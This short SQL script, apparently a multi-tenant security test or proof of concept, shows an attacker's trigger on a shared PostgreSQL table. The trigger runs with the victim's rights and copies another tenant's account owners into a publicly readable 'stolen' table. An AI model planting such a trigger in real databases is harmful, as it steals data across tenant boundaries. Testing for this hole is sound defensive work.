-- A trigger of the attacker's on a shared table runs with the rights of whoever writes.
CREATE TABLE stolen (note text);
GRANT ALL ON stolen TO PUBLIC;
GRANT USAGE ON SCHEMA tenant_alpha TO PUBLIC;
CREATE FUNCTION spies() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen VALUES (NEW.note || (SELECT min(owner) FROM tenant_beta.accounts)); RETURN NEW; END $$;
CREATE TRIGGER spies BEFORE INSERT ON public.shared FOR EACH ROW EXECUTE FUNCTION spies();
-- @session victim
INSERT INTO shared VALUES (50, 'CANARY_note');
-- @session attacker
TABLE stolen;
